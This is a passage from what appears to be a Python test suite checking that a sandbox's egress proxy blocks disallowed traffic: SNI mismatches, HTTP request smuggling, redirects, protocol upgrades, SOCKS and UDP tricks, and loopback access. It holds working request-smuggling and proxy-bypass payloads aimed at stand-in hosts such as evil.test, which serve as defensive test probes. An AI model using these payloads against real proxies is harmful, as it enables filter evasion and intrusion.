        works(r, "\r\nHost: example.test")
    time.sleep(0.2)
    heads = [e["head"] for e in w.seen("http")]
    same(len(heads), 3, heads)
    need(all(h.lower().count("\r\nhost:") == 1 and "evil" not in h for h in heads), heads)


def hello(sni="example.test"):
    """What a TLS client says first: record, handshake, extensions."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sni).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def rebuilt(change):
    """A hello whose extensions are others; `change` is given those without the names."""
    raw = hello()
    body = raw[9:]
    at = 34 + 1 + body[34]
    at += 2 + struct.unpack(">H", body[at:at + 2])[0]
    at += 1 + body[at]
    rest, found = body[at + 2:], []
    while rest:
        kind, n = struct.unpack(">HH", rest[:4])
        found += [(kind, rest[4:4 + n])] if kind else []
        rest = rest[4 + n:]
    packed = b"".join(struct.pack(">HH", k, len(v)) + v for k, v in change(found))
    return records(body[:at] + struct.pack(">H", len(packed)) + packed)


def records(message, size=16000):
    """A handshake message in as many records as it takes."""
    whole = b"\x01" + struct.pack(">I", len(message))[1:] + message
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(x)) + x for x in (whole[i:i + size] for i in range(0, len(whole), size)))


def names_of(*names):
    """The extension that names servers."""
    listed = b"".join(bytes([k]) + struct.pack(">H", len(n)) + n for k, n in names)
    return struct.pack(">H", len(listed)) + listed


def with_names(*names):
    return rebuilt(lambda found: [(0, names_of(*names))] + found)


SSLV2 = b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10\x01\x00\x80\x03\x00\x80\x07\x00\xc0\x06\x00\x40\x02\x00\x80\x04\x00\x80" + bytes(19)


@test("a tunnel carries nothing before the TLS hello names the host that was allowed (EG-17)")
def _(w):
    name = (0, b"example.test")
    whole = hello()
    bad = {
        "another name": hello("evil.test"), "no name": hello(None), "an address": with_names((0, EXAMPLE.encode())),
        "two names": with_names(name, (0, b"evil.test")), "the same name twice": with_names(name, name),
        "another kind of name": with_names((1, b"example.test")), "an empty name": with_names((0, b"")), "an empty list": with_names(),
        "two extensions": rebuilt(lambda f: [(0, names_of(name))] + f + [(0, names_of((0, b"evil.test")))]),
        "a NUL": with_names((0, b"example.test\0")),
        "a name below": hello("www.example.test"),
        "an encrypted hello for another": rebuilt(lambda f: [(0, names_of((0, b"evil.test"))), (0xfe0d, bytes(200))] + f),
        "64 KiB": rebuilt(lambda f: [(0, names_of(name))] + f + [(21, bytes(61000))]), "SSLv2": SSLV2,
        "no TLS": b"GET / HTTP/1.1\r\nHost: example.test\r\n\r\n",
        "an alert": b"\x15\x03\x01\0\x02\x01\0", "an empty record": b"\x16\x03\x01\0\0" * 50, "half a hello, then the end": whole[:60],
        "a trailing dot": with_names((0, b"example.test..")),
    }
    good = {
        "as it is": [{"send": whole.decode("latin1")}], "byte by byte": [{"bytewise": whole.decode("latin1")}],
        "two records": [{"send": records(whole[9:], 100).decode("latin1")}],
        "capitals": [{"send": with_names((0, b"EXAMPLE.test")).decode("latin1")}],
        "an encrypted hello beside it": [{"send": rebuilt(lambda f: [(0, names_of(name)), (0xfe0d, bytes(200))] + f).decode("latin1")}],
    }
    for to, before in ((PROXY, [{"send": "CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n\r\n"}, {"until": "\r\n\r\n"}]),
                       (["example.test", 443], [])):
        w.mark = os.path.getsize(w.log)
        probes = [{"op": "talk", "to": to, "steps": before + [{"send": b.decode("latin1")}], "timeout": 4} for b in bad.values()]
        probes[list(bad).index("half a hello, then the end")]["steps"].append({"shut": 1})
        results = w.probe(probes, "--allow-network=example.test", parallel=20)
        for n, r in zip(bad, results):
            body = r["got"].partition("\r\n\r\n")[2] if before else r["got"]
            need(body == "" and r["end"] in ("eof", "ECONNRESET", "EPIPE"), f"{n}: {r['got'][:200]!r} {r['end']}")
        time.sleep(0.2)
        same(w.seen("first"), [], "bytes went upstream")
        results = w.probe([{"op": "talk", "to": to, "steps": before + s + [{"until": "\x16\x03\x03"}, {"done": 1}]} for s in good.values()],
                          "--allow-network=example.test")
        for n, r in zip(good, results):
            need("\x16\x03\x03" in r["got"] and r["end"] == "done", f"{n}: {r['got'][:100]!r} {r['end']}")
        same(len(w.seen("first")), len(good))
    need(w.told("egress.deny", "example.test:443")["reason"], "no reason")


@test("TLS is looked into at every port, and to an address it may name nobody, or who is allowed too")
def _(w):
    def said(to, first, *rules):
        r, = w.probe([{"op": "talk", "to": to, "steps": [{"send": first.decode("latin1")}, {"until": "\x16\x03\x03"}, {"done": 1}]}],
                     "--allow-network=" + ",".join(rules))
        return r["end"] == "done"
    for port in (8443, 443):
        rule = f"example.test:{port}"
        same([said(["example.test", port], hello(n), rule) for n in ("example.test", "evil.test", None)], [True, False, False], port)
        rule = f"{EXAMPLE}:{port}"
        same([said([EXAMPLE, port], hello(n), rule) for n in (None, "evil.test", "example.test")], [True, False, False],
             f"by address, {port}")
        same(said([EXAMPLE, port], hello(), rule, f"example.test:{port}"), True, "a name that is allowed as well")
        odd = (with_names((0, b"a_b.evil.test")), with_names((0, b"evil.test:443")), with_names((0, b"evil.test"), (0, b"x.test")),
               with_names((0, "\u00e9vil.test".encode())), with_names((0, EVIL.encode())))
        same([said([EXAMPLE, port], x, rule) for x in odd], [False] * len(odd), f"names that can be read in two ways, by address, {port}")
    same({e["sni"] for e in w.seen("http")} - {None, "example.test"}, set())
    results = w.probe([curl("https://example.test:8443/", env=e) for e in (None, NO_PROXY)], "--allow-network=example.test:8443")
    need(all("SNI: example.test" in r["out"] for r in results), results)


@test("that a host behind a shared front can be reached by its name inside TLS is written down (EG-19)")
def _(w):
    for path in (os.path.join(HERE, "../../SECURITY.md"), os.path.join(HERE, "../SECURITY.md")):
        if os.path.exists(path):
            with open(path) as f:
                need("fronting" in f.read().lower(), "SECURITY.md says nothing of it")
            return
    raise Skip("SECURITY.md is not beside these tests")


@test("the proxy follows no redirect (EG-20)")
def _(w):
    results = w.probe([get(f"http://example.test/redirect?to=http://{METADATA}/"),
                       get("http://example.test/redirect?to=http://evil.test/")], "--allow-network=example.test")
    for r in results:
        same(status(r), 302, r)
    same(w.dialled(), [(EXAMPLE, 80)])


@test("nothing turns an HTTP connection into another protocol (EG-21)")
def _(w):
    offers = ["Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
              "Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n", "Connection: Upgrade\r\nUpgrade: websocket\r\n",
              "Connection: Upgrade\r\nUpgrade: connect-udp\r\nCapsule-Protocol: ?1\r\n"]
    other = ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
             "CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n:protocol: connect-udp\r\n\r\n",
             "OPTIONS * HTTP/1.1\r\nHost: example.test\r\n\r\n", "GET http://example.test/ HTTP/2.0\r\nHost: example.test\r\n\r\n",
             "GET http://example.test/\r\n\r\n"]
    results = w.probe([get("http://example.test/head", extra=x) for x in offers] + [talk(x) for x in other], "--allow-network=example.test")
    for x, r in zip(offers, results):
        need(is_refused(r) or status(r) == 200 and "upgrade" not in r["got"].lower() and "http2-settings" not in r["got"].lower(),
             f"{x}: {r['got']}")
    wrong = [(x, r["got"][:80]) for x, r in zip(other, results[len(offers):]) if not (is_refused(r) or status(r) == 505)]
    same(wrong, [])
    need(all("upgrade" not in e["head"].lower() for e in w.seen("http")), "an offer went upstream")


def post(fields, body="", method="POST"):
    return talk(f"{method} http://example.test/count HTTP/1.1\r\nHost: example.test\r\n{fields}\r\n{body}", timeout=4)


@test("a request whose end could be read in two ways goes nowhere (EG-23)")
def _(w):
    smuggled = "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    heads = {
        "length and chunks": post("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + smuggled),
        "xchunked": post("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n"),
        "a blank before the colon": post("Transfer-Encoding : chunked\r\n", "0\r\n\r\n"),
        "two lengths": post("Content-Length: 5\r\nContent-Length: 6\r\n", "hello!"), "+5": post("Content-Length: +5\r\n", "hello"),
        "5,5": post("Content-Length: 5,5\r\n", "hello"), "0x5": post("Content-Length: 0x5\r\n", "hello"),
        "-1": post("Content-Length: -1\r\n"), "20 digits": post("Content-Length: 18446744073709551621\r\n", "hello"),
        "a folded line": post("X: a\r\n b\r\nContent-Length: 0\r\n"), "a folded length": post("Content-Length:\r\n 5\r\n", "hello"),
        "bare LF": talk("GET http://example.test/ HTTP/1.1\nHost: example.test\n\n"),
        "CR alone": talk("GET http://example.test/ HTTP/1.1\rHost: example.test\r\r"),
        "chunked twice": post("Transfer-Encoding: chunked, chunked\r\n", "0\r\n\r\n"), "identity": post("Transfer-Encoding: identity\r\n"),
        "chunked, gzip": post("Transfer-Encoding: chunked, gzip\r\n", "0\r\n\r\n"), "a NUL": post("X: a\0b\r\n"),
        "a bare CR in a value": post("X: a\rContent-Length: 5\r\n"),
        "two framings by case": post("transfer-ENCODING: chunked\r\nContent-Length: 3\r\n", "0\r\n\r\n"),
        "a line without a colon": post("Garbage\r\n"), "a blank in a name": post("Content Length: 5\r\n", "hello"),
    }
    chunks = {"1;LF": "1;\nA\r\n0\r\n\r\n", "bare LF": "1\nA\n0\n\n", "CR alone": "1\rA\r0\r\r",
              "17 digits": "00000000000000001\r\nA\r\n0\r\n\r\n", "0x1": "0x1\r\nA\r\n0\r\n\r\n", "+1": "+1\r\nA\r\n0\r\n\r\n",
              " 1": " 1\r\nA\r\n0\r\n\r\n", "overflow": "ffffffffffffffff1\r\nA\r\n",
              "no end of data": "1\r\nAA\r\n0\r\n\r\n"}
    good = [post("Content-Length: 5\r\n", "hello"), post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\n\r\n")]
    results = w.probe(list(heads.values()) + [post("Transfer-Encoding: chunked\r\n", c) for c in chunks.values()] + good,
                      "--allow-network=example.test", parallel=24)
    all_refused(list(heads), results[:len(heads)], 400, 411, 413, 501)
    for n, r in zip(chunks, results[len(heads):]):
        need(status(r) != 200 and "canary" not in r["got"], f"a chunk as {n}: {r}")
    for r in results[-2:]:
        works(r)
    time.sleep(0.3)
    sent = [e["raw"] for e in w.seen("end", port=80)]
    need(not [s for s in sent if "evil" in s], sent)
    bodies = [s.partition("\r\n\r\n")[2] for s in sent]
    same([b for b in bodies if re.search(r"(?<!\r)\n|\r(?!\n)|;|0x|\+|^ |0{9}|f{9}", b)], [], "malformed chunks went upstream")
    need({a for a, _ in w.dialled()} == {EXAMPLE}, w.dialled())


@test("what follows a request on its connection is not taken for the next one, unless it is decided anew (EG-23)")
def _(w):
    second = "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    plain = "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    results = w.probe([talk("GET http://example.test/ HTTP/1.1\r\nHost: example.test\r\n\r\n" + second),
                       talk("GET / HTTP/1.1\r\nHost: example.test\r\n\r\n" + plain, to=["example.test", 80]),
                       through("example.test:80", {"send": "GET / HTTP/1.1\r\nHost: example.test\r\n\r\n" + plain}),
                       talk("GET http://example.test/ HTTP/1.1\r\nHost: example.test\r\nContent-Length: 3\r\n\r\nabc" + second),
                       talk("GET http://example.test/ HTTP/1.1\r\nHost: example.test\r\nConnection: keep-alive\r\n\r\n",
                            {"until": "SNI: None\n"}, {"send": second})],
                      "--allow-network=example.test")
    for r in results:
        need(r["got"].count("I am") <= 1 and "Host: evil.test" not in r["got"], r)
    need(sum("I am" in r["got"] for r in results) >= 4, "the first requests were not answered")
    time.sleep(0.2)
    need(not [e for e in w.seen("end") if "evil" in e["raw"]], "the second request went upstream")
    need({a for a, _ in w.dialled()} == {EXAMPLE}, w.dialled())


@test("methods that are not ours are refused (EG-24)")
def _(w):
    methods = ["TRACE", "TRACK", "FOO", "get", "G" * 8192, "DEBUG", "GET\t", "\x80GET"]
    probes = [talk(f"{m} http://example.test/ HTTP/1.1\r\nHost: example.test\r\n\r\n") for m in methods]
    inner = [through("example.test:80", {"send": "CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n"}),
             talk("CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n", to=["example.test", 80])]
    ours = [talk(f"{m} http://example.test/ HTTP/1.1\r\nHost: example.test\r\nContent-Length: 0\r\n\r\n")
            for m in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")]
    results = w.probe(probes + inner + ours, "--allow-network=example.test")
    all_refused([m[:10] for m in methods], results, 400, 405, 414, 431, 501)
    for r in results[len(probes):len(probes) + 2]:
        need("canary" not in r["got"] and r["got"].count(" 200 ") <= 1, r)
    same([status(r) for r in results[-6:]], [200] * 6)
    need(not [e for e in w.seen("end") if "CONNECT" in e["raw"] or "TRAC" in e["raw"]], "it went upstream")


@test("a relay of the box's own gives the same verdicts (EG-25)")
def _(w):
    names = ["example.test:443", "www.example.test:443", "other.test:7000", "evil.test:443", "example.test:22", METADATA + ":80",
             "127.0.0.1:80", "0x7f.1:80", "[::1]:80", "private.test:80", "EXAMPLE.test:443", "example.test\0:443", "nx.other.test:443",
             "host.docker.internal:80", "localhost:3128"]
    names += [f"{n}:{p}" for n in ("a.wild.test", "wild.test", "b.evil.test", "v4.test", "mixed.test") for p in (80, 443, 7000, 7001)]
    rules = "--allow-network=example.test,other.test:7000,*.wild.test:443,v4.test,mixed.test"
    direct = [status(r) for r in w.probe([connect(n) for n in names], rules)]
    relayed = [status(r) for r in w.probe([connect(n, relayed=True) for n in names], rules)]
    same(relayed, direct)
    late = w.probe([{"op": "talk", "to": PROXY, "steps": [{"pause": 0.7}, *connect(n)["steps"]]} for n in names], rules, parallel=48)
    same([status(r) for r in late], direct, "after a while")
    need(direct.count(200) >= 4 and direct.count(403) >= 10, direct)


# ---- clients ----

@test("wget, git, urllib and programs that know nothing of proxies get through; elsewhere none of them does")
def _(w):
    fetch = ("import urllib.request, ssl, sys; context = ssl.create_default_context(cafile='ca.crt')\n"
             "print(urllib.request.urlopen(sys.argv[1], context=context).read().decode())")
    raw = ("import socket, sys; s = socket.create_connection((sys.argv[1], 80))\n"
           "s.sendall(b'GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % sys.argv[1].encode())\n"
           "print(b''.join(iter(lambda: s.recv(9999), b'')).decode())")
    git = ["GIT_SSL_CAINFO=ca.crt", "GIT_CONFIG_NOSYSTEM=1", "HOME=/tmp", "GIT_TERMINAL_PROMPT=0", "PATH=/usr/bin:/bin", "sh", "-c"]

    def clients(host):
        probes = [("urllib", {"argv": ["python3", "-c", fetch, f"https://{host}/"]}),
                  ("urllib alone", {"argv": ["python3", "-c", fetch, f"https://{host}/"], "env": NO_PROXY}),
                  ("a raw socket", {"argv": ["python3", "-c", raw, host]}),
                  ("a raw socket alone", {"argv": ["env", "-i", "/usr/bin/python3", "-c", raw, host]}),
                  ("curl with NO_PROXY=*", {"argv": ["env", "NO_PROXY=*", "no_proxy=*", "curl", "-sS", "-m", "5", f"http://{host}/"]}),
                  ("curl by SOCKS", {"argv": ["curl", "-sS", "-m", "5", "--proxy", "socks5h://127.0.0.1:3128", f"http://{host}/"]})]
        if shutil.which("wget"):
            probes += [("wget", {"argv": ["wget", "-q", "-t", "1", "-T", "5", "-O", "-", "--ca-certificate=ca.crt", f"https://{host}/"]}),
                       ("wget alone", {"argv": ["wget", "-q", "-t", "1", "-T", "5", "-O", "-", f"http://{host}/"], "env": NO_PROXY})]
        if shutil.which("git"):
            clone = f"git clone -q https://{host}/git/repo.git $0.{host} && cat $0.{host}/README"
            probes += [("git", {"argv": ["env", *git, clone, "one"]}), ("git alone", {"argv": ["env", "-i", *git, clone, "two"]})]
        return [(n, {"op": "run", **p}) for n, p in probes]
    good, bad = clients("example.test"), clients("evil.test")
    results = w.probe([p for _, p in good + bad], "--allow-network=example.test", parallel=6)
    for (n, _), r in zip(good, results):
        need(f"I am {EXAMPLE}" in r.get("out", "") or "hello from the made internet" in r.get("out", ""), f"{n}: {r}")
    for (n, _), r in zip(bad, results[len(good):]):
        need("I am" not in r["out"] and "hello" not in r["out"], f"{n}: {r}")
    need({a for a, _ in w.dialled()} == {EXAMPLE}, w.dialled())
    if not shutil.which("wget") or not shutil.which("git"):
        raise Skip("the others work; wget or git is not installed")


@test("no variable, hard-coded address or protocol over UDP gets a program past the relay (EG-35)")
def _(w):
    udp = [{"op": "udp", "to": a} for a in ([EXAMPLE, 443], [EXAMPLE, 7002], [NAMESERVER, 123], [EXAMPLE6, 443], ["8.8.8.8", 853])]
    tcp = [{"op": "run", "argv": ["env", "-i", "/usr/bin/curl", "-sS", "-m", "5", f"http://{a}/"]}
           for a in (EVIL, f"[{EXAMPLE6}]", HOST4, "10.9.0.2", "127.0.0.2")]
    tcp += [{"op": "run", "argv": ["env", "no_proxy=*", "NO_PROXY=*", "curl", "-sSk", "-m", "5", f"https://{EVIL}/"]}]
    results = w.probe(udp + tcp + [curl("http://example.test/", env=NO_PROXY)], "--allow-network=example.test")
    for p, r in zip(udp, results):
        need(r["end"] in ("ECONNREFUSED", "EACCES", "EPERM", "ENETUNREACH"), f"{p}: {r}")
    for p, r in zip(tcp, results[len(udp):]):
        need("I am" not in r["out"], f"{p}: {r}")
    need("I am" in results[-1]["out"], results[-1])
    same(w.dialled(), [(EXAMPLE, 80)])
    line = w.told("egress.deny", via="udp")
    need(line["times"] >= 4 and line["reason"], line)


@test("connections in which the server speaks first begin at once, and others echo")
def _(w):
    ping = [{"send": "ping\n"}, {"until": "ping\n"}]
    ways = [{"op": "talk", "to": ["example.test", 7001], "steps": [{"until": "\r\n"}, {"done": 1}]},
            through("example.test:7001", {"until": "hello from"}, {"done": 1}),
            {"op": "talk", "to": ["example.test", 7000], "steps": [*ping, {"send": "pong\n"}, {"until": "pong\n"}, {"shut": 1}]},
            {"op": "talk", "to": PROXY, "steps": socks("example.test", 7000)["steps"][:3] + [{"size": 12}, *ping, {"done": 1}]},
            {"op": "talk", "to": ["example.test", 7000], "steps": [{"pause": 0.3}, *ping, {"done": 1}]}]
    results = w.probe(ways, "--allow-network=example.test:7000,example.test:7001")
    for p, r in zip(ways, results):
        need(r["end"] in ("done", "eof") and ("hello from" in r["got"] or "ping" in r["got"]), f"{p}: {r}")
    need(max(results[0]["seconds"], results[1]["seconds"]) < 0.4, f"the banner took {results[0]['seconds']} and {results[1]['seconds']} s")
    need("pong" in results[2]["got"] and results[2]["end"] == "eof", "the end of one direction is not carried on")
    r, = w.probe([{"op": "talk", "to": ["example.test", 7001], "steps": [{"until": "\r\n"}]}], "--allow-network=example.test")
    need(r["got"] == "" and r["end"] in ("eof", "ECONNRESET") and r["seconds"] < 1, f"a port that is denied: {r}")
    w.told("egress.deny", "example.test:7001", via="tcp")


@test("SOCKS knows CONNECT, says no with a code of its own, and asks for no password")
def _(w):
    def request(command, version=5):
        words = bytes([version, command, 0, 3, 12]) + b"example.test" + struct.pack(">H", 443)
        return {"op": "talk", "to": PROXY, "steps": [{"send": "\x05\x01\x00"}, {"until": "\x05\x00"}, {"send": words.decode("latin1")},
                                                     {"size": 4}, {"done": 1}]}
    probes = [socks("example.test", 443), socks("evil.test", 443), socks(bytes([127, 0, 0, 1]), 80, kind=1),
              socks(socket.inet_pton(socket.AF_INET6, "::1"), 80, kind=4), socks("127.0.0.1", 80), socks("example.test", 22),
              socks("nx.example.test", 443)]
    other = [request(2), request(3), request(1, version=4), talk("\x05\x01\x02"), talk("\x05\x00"), socks("", 443),
             socks("example.test", 0), talk("\x04\x01\x01\xbb\x5d\xb8\xd8\x22user\0")]
    results = w.probe(probes + other, "--allow-network=example.test,nx.example.test")
    same([r["got"][3:4] for r in results[:7]], ["\0", "\x02", "\x02", "\x02", "\x02", "\x02", "\x04"])
    same([r["got"][3:4] for r in results[7:9]], ["\x07", "\x07"], "BIND and UDP")
    for p, r in zip(other[2:], results[9:]):
        need(r["got"][2:4] != "\x05\0", f"{p}: {r}")
    same(w.dialled(), [(EXAMPLE, 443)])
    w.told("egress.deny", "evil.test:443", via="socks")


@test("much arrives whole, both ways, and is counted")
def _(w):
    n = 20_000_000
    w.box(allow=["example.test"])
    up = ["sh", "-c", f"head -c {n} /dev/zero | curl -sS -m 20 --cacert ca.crt --data-binary @- https://example.test/count"]
    down = [curl(f"https://example.test/bytes?n={n}", "-o", "/dev/null", "-w", " %{size_download}", env=e) for e in (None, NO_PROXY)]
    results = w.probe(down + [curl(f"http://example.test/bytes?n={n}", "-o", "/dev/null", "-w", " %{size_download}"),
                              {"op": "run", "argv": up}], box="box", parallel=2)
    for r in results[:3]:
        need(r["out"].strip().endswith(str(n)), r)
    same(results[3]["out"], str(n), results[3])
    c = w.shown("box")["counters"]
    need(c["bytesIn"] >= 3 * n and c["bytesOut"] >= n, c)
    entry, = [h for h in c["hosts"] if h["host"] == "example.test"]
    need(entry["connections"] >= 4 and entry["bytesIn"] >= 3 * n and entry["bytesOut"] >= n, entry)
    need(wait_for(lambda: sum(a["bytes_in"] for a in w.audit() if a["event"] == "egress.end") >= 3 * n, 3), "the audit does not add up")


@test("IPv6 works where it is allowed, by name and by address")
def _(w):
    if not world.has_ipv6():
        raise Skip("this kernel has no IPv6")
    results = w.probe([curl("http://v6.test/"), curl("https://v6.test/", env=NO_PROXY), curl("-g", f"http://[{EXAMPLE6}]/"),
                       curl("-g", f"http://[{EXAMPLE6}]/", env=NO_PROXY),
                       curl("-g", f"http://[{V6}]:8080/", env=NO_PROXY)], f"--allow-network=v6.test,[{EXAMPLE6}]:80")
    for r, a in zip(results, (V6, V6, EXAMPLE6, EXAMPLE6)):
        need(f"I am {a}," in r["out"], r)
    need("I am" not in results[4]["out"], results[4])
    same({a for a, _ in w.dialled()}, {V6, EXAMPLE6})


@test("rules: ranges, deny lists and public:*")
def _(w):
    def verdicts(flags, *targets):
        return [status(r) for r in w.probe([connect(t) for t in targets], *flags.split())]
    same(verdicts("--allow-network=93.184.216.0/26", EXAMPLE + ":443", EVIL + ":443", "8.8.8.8:443", "example.test:443", EXAMPLE + ":7000"),
         [200, 403, 403, 403, 403])
    same(verdicts("--allow-network --deny-network=evil.test,*.evil.test", EXAMPLE + ":7000", "example.test:80", "evil.test:80",
                  "a.evil.test:7000", "v4.test:7001"), [200, 200, 403, 403, 200])
    same(verdicts("--allow-network --deny-network=example.test:443,93.184.216.35", "example.test:80", "example.test:443",
                  EXAMPLE + ":443", "other.test:443"), [200, 403, 200, 403])
    line = w.told("egress.deny", "evil.test:80")
    same(line["rule"], "evil.test")
    need("deny" in line["setting"].lower(), line)


@test("the host's loopback is reached by its own name, at the ports that were named, and in no other way")
def _(w):
    names = ("host.clawden.internal", "host.docker.internal")
    own = [get(f"http://{n}:{HOST_OPEN}/") for n in names] + [curl(f"http://{names[0]}:{HOST_OPEN}/", env=NO_PROXY)]
    others = ("127.0.0.1", "localhost", "[::1]", "127.0.0.2", HOST4, "0.0.0.0", "loop.test", "lan.test")
    never = [connect(f"{n}:{p}") for n in names for p in (HOST_SHUT, 22, 80)] + [connect(f"{a}:{HOST_OPEN}") for a in others]
    caught = [talk("GET / HTTP/1.0\r\n\r\n", to=[a, HOST_OPEN]) for a in ("127.0.0.1", "127.0.0.2", HOST4)]
    results = w.probe(own + never + caught, "--allow-network", f"--host-ports={HOST_OPEN}")
    for r in results[:2]:
        works(r, "I am 127.0.0.1")
    need("I am 127.0.0.1" in results[2]["out"], results[2])
    all_refused([p["steps"][0]["send"][:50] for p in never], results[3:], 403, 400)
    for r in results[-3:]:
        need("I am" not in r["got"], r)
    same({p["port"] for p in w.seen("packet", where="host")}, {HOST_OPEN})
    same([status(r) for r in w.probe([connect(f"host.clawden.internal:{HOST_OPEN}")], "--allow-network")], [403], "without --host-ports")
    results = w.probe([connect(f"host.clawden.internal:{HOST_OPEN}"), connect("example.test:443")], f"--host-ports={HOST_OPEN}")
    same([status(r) for r in results], [200, 403], "--host-ports alone")


@test("a host's own public addresses are no way into it for a box that may reach the public internet")
def _(w):
    where = [f"{HOST_PUBLIC4}:22", f"{HOST_PUBLIC4}:80", "own.test:80", "own.test:7000"]
    where += [f"[{HOST_PUBLIC6}]:22"] if world.has_ipv6() else []
    last = [get("http://own.test/"), curl(f"http://{HOST_PUBLIC4}/", env=NO_PROXY), connect(EVIL + ":22"), connect(EVIL + ":80")]
    results = w.probe([connect(x) for x in where] + last, "--allow-network")
    need("I am" not in results[-4]["got"] and "I am" not in results[-3]["out"], results[-4:-2])
    all_refused(where, results, 403)
    same([status(r) for r in results[-2:]], [502, 200], "the control: nobody listens at one, somebody at the other")


def as_root_of_the_network(*words):
    if os.getuid():
        raise Skip("only root can change the addresses of this network here")
    same(subprocess.run(["ip", *words], capture_output=True).returncode, 0, words)


@test("nor are its second addresses, ranges that are delivered to it, or a rule about a range around them")
def _(w):
    for words in (("addr", "add", "93.184.217.1/24", "dev", "host0"), ("addr", "add", "93.184.217.2/24", "dev", "host0"),
                  ("-6", "route", "add", "local", "2606:2800:220:a::/64", "dev", "lo")):
        as_root_of_the_network(*words)
    try:
        where = ["93.184.217.1:80", "93.184.217.2:80", "93.184.217.2:22"] + (["[2606:2800:220:a::77]:80"] if world.has_ipv6() else [])
        for rule in ("public:*", "93.184.0.0/16:*,2606::/16:*"):
            all_refused(where, w.probe([connect(x) for x in where], f"--allow-network={rule}"), 403)
        same([status(r) for r in w.probe([connect("93.184.217.2:80")], "--allow-network=93.184.217.2:80")], [200], "the control: it is named")
    finally:
        for words in (("addr", "del", "93.184.217.2/24", "dev", "host0"), ("addr", "del", "93.184.217.1/24", "dev", "host0"),
                      ("-6", "route", "del", "local", "2606:2800:220:a::/64", "dev", "lo")):
            as_root_of_the_network(*words)


def seconds_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return sum(int(x) for x in f.read().rsplit(")", 1)[1].split()[11:13]) / os.sysconf("SC_CLK_TCK")


@test("who hangs up while he is being connected, or goes on talking after a refusal, costs the relay nothing")
def _(w):
    script = os.path.join(w.ws, "rude.py")
    with open(script, "w") as f:
        f.write("""import socket, struct, sys, time
if sys.argv[1] == "hang up":
    for i in range(5):
        s = socket.create_connection(("93.184.99.%d" % (i + 1), 7000))
        s.shutdown(socket.SHUT_WR)
        time.sleep(0.05)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()
    print("done", flush=True)
    time.sleep(3)
else:
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"GET http://denied.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n")
    n, big, end = 0, bytes(1 << 20), time.monotonic() + 5
    try:
        while time.monotonic() < end:
            n += s.send(big)
    except OSError:
        pass
    print(n, flush=True)
""")
    r = w.exec("--allow-network=example.test", "--", "/usr/bin/python3", "rude.py", "talk")
    need(r.returncode == 0 and int(r.stdout) < 32 << 20, f"{r.stdout} bytes were taken after the refusal {r.stderr}")
    w.may_dial |= {f"93.184.99.{i}" for i in range(1, 6)}  # where nobody answers
    as_root_of_the_network("route", "add", "93.184.99.0/24", "via", "10.9.0.77")
    try:
        as_root_of_the_network("neigh", "replace", "10.9.0.77", "lladdr", "02:00:00:00:00:77", "dev", "host0")
        p = subprocess.Popen([os.path.join(w.bin, "clawden-sandbox"), "exec", "--allow-network=public:*", "--", "/usr/bin/python3", "rude.py", "hang up"],
                             env=w.env, cwd=w.ws, stdout=subprocess.PIPE, text=True)
        same(p.stdout.readline(), "done\n")
        relay = relay_of(w)
        before = seconds_of(relay)
        p.wait(20)
        p.stdout.close()
        need(seconds_of(relay) - before < 1, f"{seconds_of(relay) - before} s of 3 s")
    finally:
        subprocess.run(["ip", "route", "del", "93.184.99.0/24"], capture_output=True)


@test("what cannot be written down does not happen: without a record nothing new is let out")
def _(w):
    w.box(allow=["example.test:7000"])
    p = w.start("box", "/usr/bin/python3", "-uc", """import socket, sys
for line in sys.stdin:
    try:
        s = socket.create_connection(("example.test", 7000), 5)
        s.sendall(b"hello")
        print("yes" if s.recv(5) else "no")
        s.close()
    except OSError:
        print("no")
""")

    def ask():
        p.stdin.write("again\n")
        p.stdin.flush()
        return p.stdout.readline().strip()
    same(ask(), "yes", "the control")
    record = os.path.join(w.data, "logs/audit.jsonl")
    os.chmod(record, 0o644)  # a record that others may read is none
    try:
        need(wait_for(lambda: ask() == "no", 5), "it goes on")
        same([ask() for _ in range(3)], ["no"] * 3)
    finally:
        os.chmod(record, 0o600)
    need(wait_for(lambda: ask() == "yes", 5), "it does not begin again")
    p.stdin.close()
    p.wait(10)
    p.stdout.close()


@test("a program that asks the resolver itself and gives the address to a proxy gets the name's verdict")
def _(w):
    r = w.exec("--allow-network=example.test", "--", "sh", "-c",
               "curl -sS -m 5 --proxy socks5://127.0.0.1:3128 http://example.test/; curl -sS -m 5 --proxy socks5://127.0.0.1:3128 http://evil.test/")
    need("I am" in r.stdout and "Host: example.test" in r.stdout and "evil.test" not in r.stdout, r.stdout + r.stderr)
    need(any(a["event"] == "egress.allow" and a["target"] == "example.test:80" and a["via"] == "socks" for a in w.audit()), "it is not told by its name")


@test("no list, an empty one, * and what is no rule: nothing is let out (EG-29)")
def _(w):
    lists = ("", "*", "*:443", "example.test,*", "http://example.test", "example.test:99999", "exa mple.test", "example.test/x",
             "10.0.0.1/8", "*example.test", "a.*.test", "[]")
    for flag in [f"--allow-network={x}" for x in lists] + ["--host-ports=0", "--host-ports=65536", "--host-ports=x", "--deny-network="]:
